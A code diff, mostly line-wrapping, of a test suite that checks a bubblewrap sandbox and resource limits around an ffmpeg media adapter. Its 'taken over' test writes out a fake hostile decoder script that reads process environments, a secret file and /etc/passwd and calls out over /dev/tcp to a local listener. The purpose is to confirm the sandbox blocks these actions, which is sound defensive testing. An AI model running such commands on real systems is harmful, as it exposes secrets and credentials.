@@ -28,7 +28,11 @@ const programs = async () => {
 }
 
 /** What a refusal says, or `taken`. */
-const outcome = (work: Promise<unknown>) => work.then(() => 'taken', (error: unknown) => (error as { code?: string }).code ?? String(error))
+const outcome = (work: Promise<unknown>) =>
+  work.then(
+    () => 'taken',
+    (error: unknown) => (error as { code?: string }).code ?? String(error),
+  )
 
 /** Answers `-version`, as a program that is tried does. */
 const VERSION = '[ "$1" = -version ] && exit 0'
@@ -40,7 +44,12 @@ const INTO_OUTPUT = 'for last; do :; done; exec > "${last#file:}" 2>&1'
 async function withFake(script: string, { limits = {}, searchPath = process.env['PATH'] ?? '' } = {}) {
   await writeFile(fake(), `#!/bin/sh\n${VERSION}\n${script}\n`)
   await chmod(fake(), 0o755)
-  return createFfmpegMediaTools({ ffmpegPath: fake(), ffprobePath: (await tools.availability()).ffprobe, limits, searchPath })
+  return createFfmpegMediaTools({
+    ffmpegPath: fake(),
+    ffprobePath: (await tools.availability()).ffprobe,
+    limits,
+    searchPath,
+  })
 }
 
 const fake = () => path.join(folder, 'fake-ffmpeg')
@@ -73,13 +82,18 @@ describe.each([
 
   test('say which of the two it is', async () => {
     const { ffmpeg } = await tools.availability()
-    expect(await createFfmpegMediaTools({ ffmpegPath: ffmpeg, ffprobePath: null, searchPath }).sandbox()).toMatchObject({ isOn })
+    expect(await createFfmpegMediaTools({ ffmpegPath: ffmpeg, ffprobePath: null, searchPath }).sandbox()).toMatchObject(
+      { isOn },
+    )
     expect(await (await withFake(HANG, { searchPath })).sandbox()).toMatchObject({ isOn })
   })
 
   test('a decoder that hangs is ended, and says so', async () => {
     const hanging = await withFake(HANG, { limits: { stallSeconds: 1 }, searchPath })
-    await expect(hanging.normalise(await tone({ seconds: 1 }), output())).rejects.toMatchObject({ code: 'media_timeout', message: messages.readingTooLong })
+    await expect(hanging.normalise(await tone({ seconds: 1 }), output())).rejects.toMatchObject({
+      code: 'media_timeout',
+      message: messages.readingTooLong,
+    })
     await expect.poll(() => processesWith(fake()), { timeout: 20_000 }).toEqual([])
   })
 
@@ -94,14 +108,22 @@ describe.each([
   })
 
   test('a decoder that works but never ends is ended too', async () => {
-    const endless = await withFake('at=0; while :; do at=$((at+1)); echo "out_time_us=$at"; echo progress=continue; sleep 0.05; done', { limits: { wallSeconds: 1 }, searchPath })
+    const endless = await withFake(
+      'at=0; while :; do at=$((at+1)); echo "out_time_us=$at"; echo progress=continue; sleep 0.05; done',
+      { limits: { wallSeconds: 1 }, searchPath },
+    )
     expect(await outcome(endless.normalise(await tone({ seconds: 1 }), output()))).toBe('media_timeout')
   })
 
   test('tell how far they are while they work', async () => {
-    const steady = await withFake(`echo out_time_us=1000000; echo progress=continue; echo out_time_us=2000000; echo progress=continue; ${INTO_OUTPUT}; head -c 64044 /dev/zero`, { searchPath })
+    const steady = await withFake(
+      `echo out_time_us=1000000; echo progress=continue; echo out_time_us=2000000; echo progress=continue; ${INTO_OUTPUT}; head -c 64044 /dev/zero`,
+      { searchPath },
+    )
     const seconds: number[] = []
-    expect(await steady.normalise(await tone({ seconds: 1 }), output(), { onSeconds: (soFar) => seconds.push(soFar) })).toMatchObject({ lengthSeconds: 2 })
+    expect(
+      await steady.normalise(await tone({ seconds: 1 }), output(), { onSeconds: (soFar) => seconds.push(soFar) }),
+    ).toMatchObject({ lengthSeconds: 2 })
     expect(seconds).toEqual([1, 2])
   })
 
@@ -112,9 +134,14 @@ describe.each([
 
   test('memory, output and environment are bounded', async () => {
     process.env['LONGHAND_TEST_SECRET'] = 'secret'
-    onTestFinished(() => { delete process.env['LONGHAND_TEST_SECRET'] })
+    onTestFinished(() => {
+      delete process.env['LONGHAND_TEST_SECRET']
+    })
     const limits = { memoryBytes: 1_205_632 * 1024, outputBytes: 14_950 * 512 }
-    const curious = await withFake(`${INTO_OUTPUT}; env; echo "memory $(ulimit -v) file $(ulimit -f) core $(ulimit -c)"; printf %1000s`, { limits, searchPath })
+    const curious = await withFake(
+      `${INTO_OUTPUT}; env; echo "memory $(ulimit -v) file $(ulimit -f) core $(ulimit -c)"; printf %1000s`,
+      { limits, searchPath },
+    )
     expect(await outcome(curious.normalise(await tone({ seconds: 1 }), output()))).toBe('taken')
     const seen = await readFile(output(), 'utf8')
     const names = [...seen.matchAll(/^(\w+)=/gm)].map(([, name]) => name)
@@ -124,7 +151,10 @@ describe.each([
   })
 
   test('a file that grows past its limit is a limit', async () => {
-    const writer = await withFake(`${INTO_OUTPUT}; exec head -c 100000 /dev/zero`, { limits: { outputBytes: 50_000 }, searchPath })
+    const writer = await withFake(`${INTO_OUTPUT}; exec head -c 100000 /dev/zero`, {
+      limits: { outputBytes: 50_000 },
+      searchPath,
+    })
     expect(await outcome(writer.normalise(await tone({ seconds: 1 }), output()))).toBe('media_limit')
   })
 
@@ -143,13 +173,18 @@ describe.each([
     const script = path.join(folder, 'worker.ts')
     const adapter = path.resolve(import.meta.dirname, '../../server/adapters/media-ffmpeg/index.ts')
     const settings = { ffmpegPath: fake(), ffprobePath: (await tools.availability()).ffprobe, searchPath }
-    await writeFile(script, `
+    await writeFile(
+      script,
+      `
       import { createFfmpegMediaTools } from ${JSON.stringify(adapter)}
       const tools = createFfmpegMediaTools(${JSON.stringify(settings)})
       await tools.normalise(${JSON.stringify(await tone({ seconds: 1 }))}, ${JSON.stringify(output())})
-    `)
+    `,
+    )
     const worker = spawn(process.execPath, [script], { stdio: 'ignore' })
-    onTestFinished(() => { worker.kill('SIGKILL') })
+    onTestFinished(() => {
+      worker.kill('SIGKILL')
+    })
     await expect.poll(() => processesWith(`-f ${fake()}`), { timeout: 20_000 }).not.toEqual([])
     worker.kill('SIGKILL')
     await expect.poll(() => processesWith(fake()), { timeout: 20_000 }).toEqual([])
@@ -160,20 +195,33 @@ describe('a decoder that was taken over', () => {
   /** Reads what it can, calls out, and writes elsewhere; its output says what came of it. */
   async function takeOver(searchPath: string) {
     const calls: string[] = []
-    const server = net.createServer((socket) => socket.on('data', (bytes) => calls.push(bytes.toString())).on('error', () => {}))
+    const server = net.createServer((socket) =>
+      socket.on('data', (bytes) => calls.push(bytes.toString())).on('error', () => {}),
+    )
     await once(server.listen(0, '127.0.0.1'), 'listening')
-    onTestFinished(() => { server.close() })
+    onTestFinished(() => {
+      server.close()
+    })
     const { port } = server.address() as AddressInfo
     const medium = await tone({ seconds: 1 })
     await writeFile(path.join(folder, 'session-secret'), 'hush-hush')
-    const evil = await withFake(`${INTO_OUTPUT}
+    const evil = await withFake(
+      `${INTO_OUTPUT}
       cat /proc/[0-9]*/environ | tr '\\0' '\\n' | sed -n 's/^PATH=.*/an environment/p'
       cat ${folder}/session-secret; cat ${medium} | wc -c; echo $(ls ${folder}); cat /etc/passwd
       touch ${folder}/left-behind; echo "$0" > ${folder}/session-secret
       bash -c 'echo called > /dev/tcp/127.0.0.1/${port}'
-      printf %1000s`, { searchPath })
+      printf %1000s`,
+      { searchPath },
+    )
     expect(await outcome(evil.normalise(medium, output()))).toBe('taken')
-    return { seen: await readFile(output(), 'utf8'), calls, names: await readdir(folder), secret: await readFile(path.join(folder, 'session-secret'), 'utf8'), medium: (await readFile(medium)).length }
+    return {
+      seen: await readFile(output(), 'utf8'),
+      calls,
+      names: await readdir(folder),
+      secret: await readFile(path.join(folder, 'session-secret'), 'utf8'),
+      medium: (await readFile(medium)).length,
+    }
   }
 
   test('reads its file and nothing else, changes nothing, and reaches nobody', async () => {
@@ -183,7 +231,11 @@ describe('a decoder that was taken over', () => {
     expect(seen).toMatch(/^fake-ffmpeg output\.part$/m)
     expect(seen).toContain('Read-only file system')
     expect(seen).toContain('Connection refused')
-    expect({ calls, isLeft: names.includes('left-behind'), secret }).toEqual({ calls: [], isLeft: false, secret: 'hush-hush' })
+    expect({ calls, isLeft: names.includes('left-behind'), secret }).toEqual({
+      calls: [],
+      isLeft: false,
+      secret: 'hush-hush',
+    })
   })
 
   test('would do all of it without the sandbox', async () => {
@@ -204,7 +256,10 @@ describe('ffmpeg and ffprobe', () => {
     const seen = path.join(folder, 'seen')
     await Promise.all([mkdir(crowd), mkdir(seen)])
     // Names alone, for a look may write no byte; outside of the sandbox, which would let it write no name either.
-    const counting = await withFake(`touch ${crowd}/$$; touch ${seen}/$(ls ${crowd} | wc -l)-$$; sleep 0.05; "${ffmpeg}" "$@"; code=$?; rm ${crowd}/$$; exit $code`, { searchPath: await searchPathWith(null) })
+    const counting = await withFake(
+      `touch ${crowd}/$$; touch ${seen}/$(ls ${crowd} | wc -l)-$$; sleep 0.05; "${ffmpeg}" "$@"; code=$?; rm ${crowd}/$$; exit $code`,
+      { searchPath: await searchPathWith(null) },
+    )
     const medium = await tone({ seconds: 1 })
     const rush = await Promise.all(Array.from({ length: 3 * LOOKS_AT_ONCE }, () => outcome(counting.probe(medium))))
     expect(new Set(rush)).toEqual(new Set(['taken']))
@@ -214,9 +269,16 @@ describe('ffmpeg and ffprobe', () => {
   })
 
   test('a system that forbids the sandbox has limits alone, and says why', async () => {
-    const forbidden = await searchPathWith('#!/bin/sh\necho "bwrap: No permissions to create a new namespace" >&2; exit 1\n')
+    const forbidden = await searchPathWith(
+      '#!/bin/sh\necho "bwrap: No permissions to create a new namespace" >&2; exit 1\n',
+    )
     const limited = createFfmpegMediaTools({ ...(await programs()), searchPath: forbidden })
-    expect(await limited.sandbox()).toEqual({ isOn: false, text: expect.stringMatching(/does not run in bubblewrap here \(No permissions to create a new namespace\).*only limits/s) })
+    expect(await limited.sandbox()).toEqual({
+      isOn: false,
+      text: expect.stringMatching(
+        /does not run in bubblewrap here \(No permissions to create a new namespace\).*only limits/s,
+      ),
+    })
     expect(await outcome(limited.probe(await tone({ seconds: 1 })))).toBe('taken')
   })
 
@@ -225,11 +287,16 @@ describe('ffmpeg and ffprobe', () => {
     const empty = createFfmpegMediaTools({ ffmpegPath: null, ffprobePath: null, searchPath })
     expect(await empty.sandbox()).toEqual({ isOn: false, text: messages.mediaToolsMissing })
     const limited = createFfmpegMediaTools({ ...(await programs()), searchPath })
-    expect(await limited.sandbox()).toEqual({ isOn: false, text: expect.stringContaining('Install the package bubblewrap') })
+    expect(await limited.sandbox()).toEqual({
+      isOn: false,
+      text: expect.stringContaining('Install the package bubblewrap'),
+    })
   })
 
   test('a sandbox that fails later is no verdict on the file', async () => {
-    const flaky = await searchPathWith('#!/bin/sh\nfor last; do [ "$last" = -version ] && exit 0; done\necho "bwrap: Resource temporarily unavailable" >&2; exit 1\n')
+    const flaky = await searchPathWith(
+      '#!/bin/sh\nfor last; do [ "$last" = -version ] && exit 0; done\necho "bwrap: Resource temporarily unavailable" >&2; exit 1\n',
+    )
     const unlucky = createFfmpegMediaTools({ ...(await programs()), searchPath: flaky })
     await expect(unlucky.probe(await tone({ seconds: 1 }))).rejects.toThrow('Resource temporarily unavailable')
   })
@@ -238,15 +305,26 @@ describe('ffmpeg and ffprobe', () => {
     const { ffmpeg, ffprobe } = await tools.availability()
     const own = path.join(folder, 'bundled')
     await mkdir(own)
-    await Promise.all([copyFile(ffmpeg ?? '', path.join(own, 'ffmpeg')), copyFile(ffprobe ?? '', path.join(own, 'ffprobe'))])
+    await Promise.all([
+      copyFile(ffmpeg ?? '', path.join(own, 'ffmpeg')),
+      copyFile(ffprobe ?? '', path.join(own, 'ffprobe')),
+    ])
     const bundled = createFfmpegMediaTools({ ffmpegPath: path.join(own, 'ffmpeg'), ffprobePath: null })
     expect(await bundled.sandbox()).toMatchObject({ isOn: true })
     expect(await bundled.probe(await tone({ seconds: 1 }))).toMatchObject({ kind: 'audio' })
   })
 
   test('are told by their names, and by what to install', async () => {
-    expect(await tools.availability()).toMatchObject({ ffmpeg: expect.stringContaining('ffmpeg'), ffprobe: expect.stringContaining('ffprobe'), advice: null })
-    const missing = createFfmpegMediaTools({ ffmpegPath: path.join(folder, 'nowhere'), ffprobePath: null, searchPath: '' })
+    expect(await tools.availability()).toMatchObject({
+      ffmpeg: expect.stringContaining('ffmpeg'),
+      ffprobe: expect.stringContaining('ffprobe'),
+      advice: null,
+    })
+    const missing = createFfmpegMediaTools({
+      ffmpegPath: path.join(folder, 'nowhere'),
+      ffprobePath: null,
+      searchPath: '',
+    })
     expect(await missing.availability()).toMatchObject({ ffmpeg: null, advice: messages.mediaToolsMissing })
     expect(await outcome(missing.probe(await tone({ seconds: 1 })))).toBe('engine_missing')
     expect(messages.mediaToolsMissing).toContain('Install')
